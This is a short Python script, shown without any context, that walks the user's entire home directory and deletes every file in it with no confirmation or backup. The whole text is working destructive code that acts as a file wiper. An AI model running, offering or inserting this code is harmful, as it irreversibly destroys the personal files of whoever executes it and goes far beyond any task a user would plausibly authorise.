import os

for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        os.remove(os.path.join(folder, name))
